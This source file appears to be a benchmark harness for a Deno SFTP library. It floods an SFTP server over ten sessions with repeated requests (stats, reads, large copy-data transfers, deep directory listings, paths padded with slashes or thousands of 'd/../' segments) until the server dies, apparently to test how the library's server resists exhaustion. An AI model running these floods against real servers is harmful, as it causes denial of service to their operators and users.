/**
 * A user that overloads an SFTP server over ten sessions of one connection until it is killed. Prints
 * "attacking" once the server answers.
 *
 *     deno run -A bench/sftp_attacker.ts '{"target": …, "root": "/srv", "attack": "stats"}'
 */
import type { Channel, Client } from "../mod.ts";
import { ByteSource } from "../lib/sftp/protocol/byte_source.ts";
import * as msg from "../lib/sftp/protocol/messages.ts";
import { EXTENSION, FXF, FXP } from "../lib/sftp/protocol/numbers.ts";
import { peek32 } from "../lib/wire/hot.ts";
import { login, type Target } from "./lab.ts";

/** The attack and its target. */
export interface AttackOptions {
  readonly target: Target;
  /** The prefix of paths in the prepared folder. */
  readonly root: string;
  readonly attack: keyof typeof ATTACKS;
}

/** The folder that the attacks expect below `root`. */
export async function prepare(folder: string, { names }: { names: number }): Promise<void> {
  await Deno.mkdir(`${folder}/many`);
  for (let i = 0; i < names; i++) {
    Deno.writeFileSync(`${folder}/many/a-file-${i}`, new Uint8Array());
  }
  await Deno.mkdir(`${folder}/${DEEP}`, { recursive: true });
  await Deno.writeFile(`${folder}/file`, new Uint8Array(1024));
  await Deno.writeFile(`${folder}/large`, new Uint8Array(1));
  await Deno.truncate(`${folder}/large`, 2 * 1024 ** 3);
}

const SESSIONS = 10;
const DEEP = "d/".repeat(100);

/** Bytes of requests that are sent together. */
const BATCH_BYTES = 64 * 1024;

/** The most expensive requests of one user; each runs in each session. */
const ATTACKS = {
  stats: (session, root) => session.flood(msg.Stat.encode(1, { path: `${root}/file` })),
  reads: async (session, root) => {
    const handle = await session.open(`${root}/file`, FXF.READ);
    await session.flood(msg.Read.encode(1, { handle, offset: 0, length: 1 }));
  },
  copies: async (session, root, number) => {
    const from = await session.open(`${root}/large`, FXF.READ);
    for (;;) {
      const to = await session.open(`${root}/copy${number}`, FXF.WRITE | FXF.CREAT | FXF.TRUNC);
      // Two files are overwritten in turn, which limits memory.
      const length = number < 2 ? 512 * 1024 ** 2 : 1024 ** 2;
      const data = msg.CopyData.encode({ from, fromOffset: 0, length, to, toOffset: 0 });
      await session.ask(msg.Extended.encode(1, { request: EXTENSION.COPY_DATA, data }));
      await session.ask(msg.Close.encode(1, { handle: to }));
    }
  },
  listings: (session, root) => session.list([`${root}/many`, `${root}/many`], Infinity),
  deep: (session, root) => session.list(Array(20).fill(`${root}/${DEEP}`), 1),
  slashes: (session, root) =>
    session.flood(msg.Realpath.encode(1, { path: root + "/".repeat(4000 - root.length) + "\n" })),
  dots: (session, root) =>
    session.flood(msg.Stat.encode(1, { path: `${root}/${"d/../".repeat(50_000)}` })),
  writes: async (session, root, number) => {
    const handle = await session.open(`${root}/copy${number}`, FXF.WRITE | FXF.CREAT);
    await session.flood(msg.Write.encode(1, { handle, offset: 0, data: new Uint8Array(32_000) }));
  },
  steps: (session, root) =>
    session.flood(msg.Stat.encode(1, { path: `${root}/${"d/../".repeat(256)}` })),
} satisfies Record<string, (session: Session, root: string, number: number) => Promise<void>>;

/** The names of the attacks. */
export const ATTACK_NAMES = Object.keys(ATTACKS) as readonly (keyof typeof ATTACKS)[];

class Session {
  readonly #channel: Channel;
  readonly #source: ByteSource;
  readonly #answered: () => void;

  constructor(channel: Channel, answered: () => void) {
    this.#channel = channel;
    this.#source = new ByteSource(channel);
    this.#answered = answered;
  }

  /** Waits for VERSION. */
  async greeting(): Promise<void> {
    await this.#source.take(peek32(await this.#source.take(4), 0));
  }

  /** One answer to one request. */
  async ask(request: Uint8Array): Promise<{ type: number; body: Uint8Array }> {
    await this.#channel.writeAll(request);
    const header = (await this.#source.take(9)).slice();
    const body = (await this.#source.take(peek32(header, 0) - 5)).slice();
    this.#answered();
    return { type: header[4]!, body };
  }

  async open(path: string, flags: number): Promise<Uint8Array> {
    return msg.Handle.decode(
      (await this.ask(msg.Open.encode(1, { path, flags, attributes: {} }))).body,
    )
      .handle;
  }

  /** Repeats a request as fast as the window allows. */
  async flood(request: Uint8Array): Promise<void> {
    const count = Math.max(1, Math.floor(BATCH_BYTES / request.length));
    const batch = new Uint8Array(count * request.length);
    for (let i = 0; i < count; i++) batch.set(request, i * request.length);
    const reading = this.#channel.consume(() => this.#answered());
    for (;;) await Promise.race([this.#channel.writeAll(batch), reading]);
  }

  /** Lists folders repeatedly and in parallel, each up to a number of answers. */
  async list(paths: readonly string[], answers: number): Promise<void> {
    for (;;) {
      const handles: Uint8Array[] = [];
      for (const path of paths) {
        const { type, body } = await this.ask(msg.Opendir.encode(1, { path }));
        if (type === FXP.HANDLE) handles.push(msg.Handle.decode(body).handle);
      }
      const open = new Set(handles);
      for (let round = 0; open.size > 0 && round < answers; round++) {
        for (const handle of open) {
          const { type } = await this.ask(msg.Readdir.encode(1, { handle }));
          if (type === FXP.STATUS) open.delete(handle);
        }
      }
      for (const handle of handles) await this.ask(msg.Close.encode(1, { handle }));
    }
  }
}

async function start(host: Client, answered: () => void): Promise<Session> {
  const channel = await host.openSession();
  await channel.subsystem("sftp");
  await channel.writeAll(msg.encodeVersion(FXP.INIT, 3));
  const session = new Session(channel, answered);
  await session.greeting();
  return session;
}

if (import.meta.main) {
  const { target, root, attack } = JSON.parse(Deno.args[0]!) as AttackOptions;
  const host = await login(target);
  let told = false;
  const answered = () => {
    if (!told) console.log("attacking");
    told = true;
  };
  const sessions = await Promise.all(Array.from({ length: SESSIONS }, () => start(host, answered)));
  await Promise.all(sessions.map((session, number) => ATTACKS[attack](session, root, number)));
}
